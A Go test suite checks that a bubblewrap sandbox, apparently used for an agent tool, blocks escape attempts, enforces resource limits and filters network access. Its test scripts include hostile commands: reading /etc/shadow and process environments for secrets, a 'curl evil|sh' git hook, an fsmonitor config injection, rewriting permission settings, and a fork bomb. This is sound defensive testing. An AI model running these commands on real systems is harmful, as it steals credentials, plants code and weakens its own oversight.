package sandbox

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/custos-dev/custos/netpolicy"
	"github.com/custos-dev/custos/sandbox/hostfs"
	"github.com/custos-dev/custos/sandbox/sysview"
)

// newBwrap returns the real bubblewrap backend. Without bwrap installed the
// test is skipped with the reason, or fails when CI is set; with bwrap
// installed it must work.
func newBwrap(t testing.TB, cfg Config) Sandbox {
	t.Helper()
	if _, err := exec.LookPath("bwrap"); err != nil && cfg.BwrapPath == "" {
		if os.Getenv("CI") != "" {
			t.Fatal("bwrap not installed (apt-get install bubblewrap): CI must run the real-sandbox tests")
		}
		t.Skip("bwrap not installed (apt-get install bubblewrap): skipping real-sandbox test")
	}
	cfg.FailIfUnavailable = true
	if cfg.CacheDir == "" {
		// The workspace caches of a test are its own, not the user's.
		cfg.CacheDir = t.TempDir()
		// go leaves module directories read-only, which TempDir's own
		// cleanup cannot remove.
		dir := cfg.CacheDir
		t.Cleanup(func() { _ = hostfs.RemoveAllWritable(dir) })
	}
	if cfg.Logger == nil {
		cfg.Logger = slog.New(slog.NewTextHandler(testWriter{t}, nil))
	}
	sb, err := New(cfg)
	require.NoError(t, err)
	// Before the cache directory goes (cleanups run last first).
	t.Cleanup(func() { WaitIdle(sb) })
	name, _ := sb.Backend()
	require.Equal(t, BackendBwrap, name)
	return sb
}

type testWriter struct{ t testing.TB }

func (w testWriter) Write(p []byte) (int, error) {
	w.t.Log(strings.TrimRight(string(p), "\n"))
	return len(p), nil
}

func bash(script string) []string { return []string{"bash", "-c", script} }

// processesWith lists host processes whose command line contains token.
func processesWith(token string) []string {
	var out []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err != nil || e.Name() == fmt.Sprint(os.Getpid()) {
			continue
		}
		if strings.Contains(string(b), token) {
			// A zombie has an empty cmdline, so anything here is alive.
			out = append(out, e.Name()+": "+strings.ReplaceAll(string(b), "\x00", " "))
		}
	}
	return out
}

// TestBwrapDenies runs every action twice: outside the sandbox, where it
// must succeed (so the host allows it and the target exists), then inside,
// where it must fail. Only the sandbox can then explain the failure.
func TestBwrapDenies(t *testing.T) {
	needRoot(t)
	sb := newBwrap(t, Config{})
	nonce := fmt.Sprint(time.Now().UnixNano())
	secret := "custos-secret-" + nonce
	t.Setenv("CUSTOS_TEST_SECRET", secret)
	t.Setenv("OPENAI_API_KEY", secret)
	t.Setenv("TEMPORAL_ADDRESS", secret)

	ln := startTestListener(t)
	dns := startTestResolver(t)
	// World-readable files the test owns in the directories the sandbox
	// hides, and a directory under /usr for the write.
	rootProbe := "/root/.custos-probe-" + nonce
	homeProbe := "/home/custos-probe-" + nonce + "/notes.txt"
	etcProbe := "/etc/custos-probe-" + nonce
	usrDir := "/usr/local/custos-probe-" + nonce
	for _, p := range []string{rootProbe, homeProbe, etcProbe, usrDir + "/keep"} {
		systemProbe(t, p)
	}
	outside := filepath.Join(t.TempDir(), "outside.txt") // a host path outside the workspace
	rootFile := "/custos-probe-" + nonce

	tests := []struct {
		name   string
		setup  func(t *testing.T, ws string)
		script string
		// created are host files the outside run makes; they are removed
		// before the inside run and must not exist after it.
		created []string
		// check runs after the inside run; the command itself must fail.
		check func(t *testing.T, ws string, res Result)
	}{
		{name: "read /root", script: "cat " + rootProbe},
		{name: "read /home", script: "cat " + homeProbe},
		{name: "read /etc/shadow", script: "cat /etc/shadow >/dev/null && cat " + etcProbe},
		{name: "write /usr", script: "touch " + usrDir + "/x", created: []string{usrDir + "/x"}},
		{name: "write /", script: "touch " + rootFile, created: []string{rootFile}},
		{name: "write host tmp outside workspace", script: "echo x > " + outside, created: []string{outside}},
		{name: "symlink to /etc", setup: func(t *testing.T, ws string) {
			require.NoError(t, os.Symlink("/etc", filepath.Join(ws, "etc-link")))
		}, script: "cat etc-link/shadow >/dev/null && cat etc-link/" + filepath.Base(etcProbe)},
		{name: "symlink to /root", setup: func(t *testing.T, ws string) {
			require.NoError(t, os.Symlink("/root", filepath.Join(ws, "root-link")))
		}, script: "cat root-link/" + filepath.Base(rootProbe)},
		{name: "worker environment", script: "env; cat /proc/1/environ; cat /proc/*/environ; env | grep -q " + secret,
			check: func(t *testing.T, ws string, res Result) {
				assert.NotContains(t, res.Stdout+res.Stderr, secret)
				assert.NotContains(t, res.Stdout, "OPENAI_API_KEY")
				assert.NotContains(t, res.Stdout, "TEMPORAL_ADDRESS")
			}},
		{name: "signal host process", script: fmt.Sprintf("kill -0 %d", os.Getpid())},
		{name: "connect host loopback", script: fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d", ln.port)},
		{name: "reach a named host", script: fmt.Sprintf("exec 3<>/dev/tcp/localhost/%d", ln.port)},
		{name: "resolve a domain", script: dns.queryScript()},
		{name: "write git hook", setup: func(t *testing.T, ws string) {
			require.NoError(t, os.MkdirAll(filepath.Join(ws, ".git", "hooks"), 0o755))
		}, script: "echo 'curl evil|sh' > .git/hooks/pre-commit", check: func(t *testing.T, ws string, res Result) {
			assert.NoFileExists(t, filepath.Join(ws, ".git", "hooks", "pre-commit"))
		}},
		{name: "add git hook where none exist", setup: func(t *testing.T, ws string) {
			require.NoError(t, os.MkdirAll(filepath.Join(ws, ".git"), 0o755))
		}, script: "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit", check: func(t *testing.T, ws string, res Result) {
			assert.NoFileExists(t, filepath.Join(ws, ".git", "hooks", "pre-commit"))
		}},
		{name: "write git config", setup: func(t *testing.T, ws string) {
			require.NoError(t, os.MkdirAll(filepath.Join(ws, ".git"), 0o755))
			require.NoError(t, os.WriteFile(filepath.Join(ws, ".git", "config"), []byte("[core]\n"), 0o644))
		}, script: "echo '[core] fsmonitor=evil' >> .git/config", check: func(t *testing.T, ws string, res Result) {
			b, err := os.ReadFile(filepath.Join(ws, ".git", "config"))
			require.NoError(t, err)
			assert.Equal(t, "[core]\n", string(b))
		}},
		{name: "write .custos settings", setup: func(t *testing.T, ws string) {
			require.NoError(t, os.MkdirAll(filepath.Join(ws, ".custos"), 0o755))
		}, script: "echo '{}' > .custos/settings.json", check: func(t *testing.T, ws string, res Result) {
			assert.NoFileExists(t, filepath.Join(ws, ".custos", "settings.json"))
		}},
		{name: "create .custos settings where none exist", script: "mkdir -p .custos && echo '{\"permissions\":{\"allow\":[\"Bash\"]}}' > .custos/settings.local.json",
			check: func(t *testing.T, ws string, res Result) {
				assert.NoFileExists(t, filepath.Join(ws, ".custos", "settings.local.json"))
			}},
		{name: "new user namespace", script: "unshare -U true && bwrap --ro-bind / / true"},
		{name: "gain root", script: "test \"$(id -u)\" = 0"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			// Outside, in a workspace of its own set up the same way: the
			// action works.
			wsOut := t.TempDir()
			if tc.setup != nil {
				tc.setup(t, wsOut)
			}
			conns, queries := ln.accepted.Load(), dns.queries.Load()
			code, out := runOutside(t, wsOut, tc.script)
			require.Zero(t, code, "the control must succeed outside the sandbox: %s", out)
			for _, p := range tc.created {
				require.FileExists(t, p, "the control wrote it")
				require.NoError(t, os.Remove(p))
			}
			// Wait for the servers to count what the control did, so the
			// inside run is measured from a settled count.
			if strings.Contains(tc.script, "/dev/tcp/") {
				conns = settle(t, &ln.accepted, conns+1)
			}
			if strings.Contains(tc.script, "/dev/udp/") {
				queries = settle(t, &dns.queries, queries+1)
			}

			ws := t.TempDir()
			if tc.setup != nil {
				tc.setup(t, ws)
			}
			res, err := sb.Run(context.Background(), Request{Workspace: ws, Argv: bash(tc.script), Timeout: 20 * time.Second})
			require.NoError(t, err)
			assert.NotZero(t, res.ExitCode, "must fail inside the sandbox; stdout=%q stderr=%q", res.Stdout, res.Stderr)
			assert.False(t, res.Killed, "%s", res.KillReason)
			assert.Equal(t, BackendBwrap, res.Backend)
			for _, p := range tc.created {
				assert.NoFileExists(t, p)
			}
			assert.Equal(t, conns, ln.accepted.Load(), "the loopback listener was reached from inside")
			assert.Equal(t, queries, dns.queries.Load(), "the loopback resolver was reached from inside")
			if tc.check != nil {
				tc.check(t, ws, res)
			}
		})
	}
}

func TestBwrapWorks(t *testing.T) {
	sb := newBwrap(t, Config{})
	tmpName := fmt.Sprintf("custos-tmp-%d", time.Now().UnixNano())
	tests := []struct {
		name   string
		setup  func(t *testing.T, ws string)
		script string
		check  func(t *testing.T, ws string, res Result)
	}{
		{name: "shell project build and test", setup: func(t *testing.T, ws string) {
			files := map[string]string{
				"build.sh": "set -e\nmkdir -p out\nprintf '#!/bin/sh\\necho \"hello $1\"\\n' > out/greet\nchmod +x out/greet\n",
				"test.sh":  "set -e\ntest \"$(./out/greet world)\" = 'hello world'\necho PASS\n",
				"Makefile": "all:\n\tbash build.sh\n\tbash test.sh\n",
			}
			for n, c := range files {
				require.NoError(t, os.WriteFile(filepath.Join(ws, n), []byte(c), 0o644))
			}
		}, script: "if command -v make >/dev/null; then make; else bash build.sh && bash test.sh; fi",
			check: func(t *testing.T, ws string, res Result) {
				assert.Contains(t, res.Stdout, "PASS")
				assert.FileExists(t, filepath.Join(ws, "out", "greet"), "workspace writes must persist on the host")
			}},
		{name: "absolute workspace paths", script: `test "$(pwd)" = "$WS" && echo ok > "$WS/abs.txt"`,
			check: func(t *testing.T, ws string, res Result) { assert.FileExists(t, filepath.Join(ws, "abs.txt")) }},
		{name: "write /tmp", script: "echo hi > /tmp/" + tmpName + " && cat /tmp/" + tmpName + " && mkdir -p $HOME/.cache && echo ok",
			check: func(t *testing.T, ws string, res Result) {
				assert.Contains(t, res.Stdout, "hi")
				assert.NoFileExists(t, "/tmp/"+tmpName, "sandbox /tmp must not be the host's")
			}},
		{name: "tmp gone afterwards", script: "test ! -e /tmp/" + tmpName},
		{name: "unprivileged user without capabilities", script: "id -u; grep CapEff /proc/self/status",
			check: func(t *testing.T, ws string, res Result) {
				assert.Contains(t, res.Stdout, fmt.Sprint(SandboxUID))
				assert.Contains(t, res.Stdout, "CapEff:\t0000000000000000")
			}},
		{name: "tls certificates readable", script: "ls /etc/ssl/certs | head -1"},
		// The sandbox's own passwd and group (from the /etc view, or mounted
		// over it): its user has a name and home, the host's users are absent.
		{name: "own identity files", script: "id -un; id -gn; cat /etc/passwd /etc/group",
			check: func(t *testing.T, ws string, res Result) {
				want, _ := sysview.Identity()
				lines := strings.SplitN(res.Stdout, "\n", 3)
				assert.Equal(t, []string{"custos", "custos"}, lines[:2])
				assert.Contains(t, lines[2], want)
				for _, host := range hostUsers(t) {
					assert.NotContains(t, res.Stdout, host+":", "host user %s visible", host)
				}
			}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			ws := t.TempDir()
			if tc.setup != nil {
				tc.setup(t, ws)
			}
			real, err := filepath.EvalSymlinks(ws)
			require.NoError(t, err)
			script := strings.ReplaceAll(tc.script, "$WS", real)
			res, err := sb.Run(context.Background(), Request{Workspace: ws, Argv: bash(script), Timeout: 30 * time.Second})
			require.NoError(t, err)
			require.Zero(t, res.ExitCode, "stdout=%q stderr=%q", res.Stdout, res.Stderr)
			assert.Empty(t, res.Note)
			if tc.check != nil {
				tc.check(t, ws, res)
			}
		})
	}
}

func TestBwrapGoProject(t *testing.T) {
	// The go that runs this test, wherever it is installed; it must be
	// under a directory the sandbox shows (/usr, not a home directory).
	goBin, err := exec.LookPath("go")
	require.NoError(t, err, "go is on PATH when go test runs")
	if testing.Short() {
		t.Skip("-short: a cold Go build cache compiles the standard library")
	}
	sb := newBwrap(t, Config{})
	ws := t.TempDir()
	files := map[string]string{
		"go.mod":       "module example.com/tiny\n\ngo 1.21\n",
		"tiny.go":      "package tiny\n\nfunc Add(a, b int) int { return a + b }\n",
		"tiny_test.go": "package tiny\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(2, 3) != 5 {\n\t\tt.Fatal(\"bad\")\n\t}\n}\n",
	}
	for n, c := range files {
		require.NoError(t, os.WriteFile(filepath.Join(ws, n), []byte(c), 0o644))
	}
	res, err := sb.Run(context.Background(), Request{Workspace: ws, Argv: bash(seccompOn + "PATH=" + filepath.Dir(goBin) + ":$PATH go vet ./... && PATH=" + filepath.Dir(goBin) + ":$PATH go test -count=1 ./..."), Timeout: 5 * time.Minute})
	require.NoError(t, err)
	require.Zero(t, res.ExitCode, "stdout=%q stderr=%q", res.Stdout, res.Stderr)
	assert.Contains(t, res.Stdout, "ok")
}

func TestBwrapLimits(t *testing.T) {
	tests := []struct {
		name   string
		cfg    Config
		script string
		// timeout is the backstop: a limit that does not work shows as a
		// kill for "timeout" (or no kill) instead of its own reason.
		timeout    time.Duration
		killed     bool
		reason     string
		check      func(t *testing.T, res Result)
		exitNonZro bool
	}{
		{name: "fork bomb", cfg: Config{NProc: 64, KillGrace: time.Second}, timeout: 5 * time.Second,
			script: "bomb() { bomb & bomb; }; bomb", killed: true, reason: "timeout"},
		{name: "output flood", cfg: Config{MaxOutput: 1 << 16, OutputKillBytes: 4 << 20}, timeout: 30 * time.Second,
			script: "yes", killed: true, reason: "output limit",
			check: func(t *testing.T, res Result) {
				assert.True(t, res.Truncated)
				assert.Len(t, res.Stdout, 1<<16)
			}},
		{name: "detached sleeping grandchild", timeout: 30 * time.Second,
			// Run returns when the command exits, not when its detached
			// children do: waiting for them would end in a timeout kill.
			script: "setsid nohup bash -c 'exec -a TOKEN sleep 1000' >/dev/null 2>&1 & (exec -a TOKEN sleep 1000) & echo started",
		},
		{name: "timeout", cfg: Config{KillGrace: 500 * time.Millisecond}, timeout: time.Second,
			script: "exec -a TOKEN sleep 1000", killed: true, reason: "timeout"},
		{name: "term ignored", cfg: Config{KillGrace: 500 * time.Millisecond}, timeout: time.Second,
			script: "trap '' TERM; while :; do sleep 0.1; done", killed: true, reason: "timeout"},
		{name: "cpu", cfg: Config{CPUSeconds: 1}, timeout: 30 * time.Second,
			script: "while :; do :; done", killed: true, reason: "cpu limit"},
		{name: "file size", cfg: Config{FileSizeBytes: 1 << 20}, timeout: 30 * time.Second,
			script: "head -c 5000000 /dev/zero > big", killed: true, reason: "file size limit"},
		{name: "memory", cfg: Config{MemoryBytes: 256 << 20}, timeout: 30 * time.Second,
			script: "head -c 600000000 /dev/zero | tail -c 600000000 > /dev/null", exitNonZro: true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			sb := newBwrap(t, tc.cfg)
			token := fmt.Sprintf("custos-limit-%d", time.Now().UnixNano())
			ws := t.TempDir()
			script := "# " + token + "\n" + strings.ReplaceAll(tc.script, "TOKEN", token)
			res, err := sb.Run(context.Background(), Request{Workspace: ws, Argv: bash(script), Timeout: tc.timeout})
			require.NoError(t, err)
			t.Logf("exit=%d killed=%v reason=%q duration=%s stderr=%.200q", res.ExitCode, res.Killed, res.KillReason, res.Duration, res.Stderr)
			assert.Equal(t, tc.killed, res.Killed)
			assert.True(t, strings.HasPrefix(res.KillReason, tc.reason), "kill reason %q, want %q", res.KillReason, tc.reason)
			if tc.exitNonZro {
				assert.NotZero(t, res.ExitCode)
			}
			if tc.check != nil {
				tc.check(t, res)
			}
			assert.Empty(t, processesWith(token), "processes left behind")
		})
	}
}

// allowlistServer is an HTTP server on 127.0.0.1 that the test-only resolver
// names allowed.test, denied.allowed.test and sneaky.test.
func allowlistServer(t *testing.T) (port string, resolver func(context.Context, string) ([]netip.Addr, error), hits *atomic.Int32) {
	hits = new(atomic.Int32)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprintf(w, "hello from %s", r.Host)
	}))
	t.Cleanup(srv.Close)
	_, port, err := net.SplitHostPort(srv.Listener.Addr().String())
	require.NoError(t, err)
	resolver = func(ctx context.Context, host string) ([]netip.Addr, error) {
		switch host {
		case "allowed.test", "api.allowed.test", "denied.allowed.test", "other.test":
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		}
		return nil, errors.New("test resolver: no such host " + host)
	}
	return port, resolver, hits
}

func TestBwrapNetworkAllowlist(t *testing.T) {
	port, resolver, hits := allowlistServer(t)
	haveCurl := true
	if _, err := exec.LookPath("curl"); err != nil {
		haveCurl = false
	}
	// rawGet speaks plain-HTTP forward proxying with bash only, so the test
	// does not depend on curl.
	rawGet := func(host string) string {
		return fmt.Sprintf(`exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'GET http://%s:%s/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' >&3 && cat <&3`, host, port, host)
	}
	net := netpolicy.Policy{AllowedDomains: []string{"allowed.test", "*.allowed.test", "sneaky.test"}, DeniedDomains: []string{"denied.allowed.test"}, AllowLocalBinding: true}
	tests := []struct {
		name     string
		net      netpolicy.Policy
		script   string
		curl     bool
		wantOK   bool
		wantText string
	}{
		{name: "allowed via forward proxy", net: net, script: rawGet("allowed.test"), wantOK: true, wantText: "hello from allowed.test"},
		{name: "wildcard subdomain", net: net, script: rawGet("api.allowed.test"), wantOK: true, wantText: "hello from api.allowed.test"},
		{name: "allowed via CONNECT (curl https_proxy)", net: net, curl: true, wantOK: true, wantText: "hello from allowed.test",
			script: "curl -sS --fail --proxytunnel -x \"$HTTPS_PROXY\" http://allowed.test:" + port + "/"},
		{name: "allowed via SOCKS5 (curl all_proxy)", net: net, curl: true, wantOK: true, wantText: "hello from allowed.test",
			script: "curl -sS --fail -x \"$ALL_PROXY\" http://allowed.test:" + port + "/"},
		{name: "not in allowlist", net: net, script: rawGet("other.test"), wantText: "403"},
		{name: "denied beats allowed", net: net, script: rawGet("denied.allowed.test"), wantText: "403"},
		{name: "IP literal", net: net, script: rawGet("127.0.0.1"), wantText: "403"},
		{name: "not allowed via CONNECT", net: net, curl: true, script: "curl -sS --fail --proxytunnel -x \"$HTTPS_PROXY\" http://other.test:" + port + "/"},
		{name: "DNS steering into loopback", net: netpolicy.Policy{AllowedDomains: []string{"allowed.test"}}, script: rawGet("allowed.test"), wantText: "403"},
		{name: "direct connection still blocked", net: net, script: "exec 3<>/dev/tcp/127.0.0.1/" + port},
		{name: "DNS still blocked", net: net, script: "getent hosts allowed.test"},
	}
	sb := newBwrap(t, Config{Resolver: resolver})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if tc.curl && !haveCurl {
				if os.Getenv("CI") != "" {
					t.Fatal("curl not installed: .ci/run installs it, CI must run the curl cases")
				}
				t.Skip("curl not installed")
			}
			before := hits.Load()
			res, err := sb.Run(context.Background(), Request{Workspace: t.TempDir(), Argv: bash(tc.script), Timeout: 20 * time.Second, Network: tc.net})
			require.NoError(t, err)
			out := res.Stdout + res.Stderr
			if tc.wantText != "" {
				assert.Contains(t, out, tc.wantText)
			}
			if tc.wantOK {
				assert.Zero(t, res.ExitCode, out)
				assert.Greater(t, hits.Load(), before)
			} else {
				assert.Equal(t, before, hits.Load(), "the server must not be reached: %s", out)
				if !strings.Contains(tc.script, "cat <&3") {
					assert.NotZero(t, res.ExitCode, out)
				}
			}
		})
	}
}

func TestBwrapRejectsBadInput(t *testing.T) {
	sb := newBwrap(t, Config{})
	ws := t.TempDir()
	file := filepath.Join(ws, "f")
	require.NoError(t, os.WriteFile(file, nil, 0o644))
	tests := []struct {
		name string
		req  Request
		want string
	}{
		{"empty argv", Request{Workspace: ws}, "empty command"},
		{"no workspace", Request{Argv: []string{"true"}}, "no workspace"},
		{"relative workspace", Request{Workspace: "rel", Argv: []string{"true"}}, "not an absolute path"},
		{"missing workspace", Request{Workspace: filepath.Join(ws, "nope"), Argv: []string{"true"}}, "no such file"},
		{"workspace is a file", Request{Workspace: file, Argv: []string{"true"}}, "not a directory"},
		{"root workspace", Request{Workspace: "/", Argv: []string{"true"}}, "system directory"},
		{"negative timeout", Request{Workspace: ws, Argv: []string{"true"}, Timeout: -1}, "negative timeout"},
		{"bad env name", Request{Workspace: ws, Argv: []string{"true"}, Env: []string{"A=B"}}, "invalid environment variable"},
		{"protected env name", Request{Workspace: ws, Argv: []string{"true"}, Env: []string{"HOME"}}, "set by the sandbox"},
		{"bad domain", Request{Workspace: ws, Argv: []string{"true"}, Network: netpolicy.Policy{AllowedDomains: []string{"http://x.com/"}}}, "invalid domain pattern"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := sb.Run(context.Background(), tc.req)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.want)
		})
	}
}

func TestBwrapPassesRequestedEnvAndStreams(t *testing.T) {
	sb := newBwrap(t, Config{})
	t.Setenv("CUSTOS_TEST_PASS", "visible")
	var live strings.Builder
	res, err := sb.Run(context.Background(), Request{Workspace: t.TempDir(), Argv: bash("echo $CUSTOS_TEST_PASS; exit 3"), Env: []string{"CUSTOS_TEST_PASS"}, Stdout: &live})
	require.NoError(t, err)
	assert.Equal(t, 3, res.ExitCode)
	assert.Equal(t, "visible\n", res.Stdout)
	assert.Equal(t, "visible\n", live.String())
}

func TestBwrapContextCancel(t *testing.T) {
	sb := newBwrap(t, Config{KillGrace: 200 * time.Millisecond})
	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
	defer cancel()
	res, err := sb.Run(ctx, Request{Workspace: t.TempDir(), Argv: bash("sleep 100")})
	require.NoError(t, err)
	assert.True(t, res.Killed)
	assert.Contains(t, res.KillReason, "canceled")
	assert.Less(t, res.Duration, 5*time.Second)
}

// hostUsers are the names in the host's /etc/passwd other than those the
// sandbox's own passwd names too.
func hostUsers(t *testing.T) []string {
	data, err := os.ReadFile("/etc/passwd")
	require.NoError(t, err)
	var out []string
	for _, l := range strings.Split(string(data), "\n") {
		name, _, _ := strings.Cut(l, ":")
		if name != "" && name != "root" && name != "nobody" && name != "custos" {
			out = append(out, name)
		}
	}
	return out
}
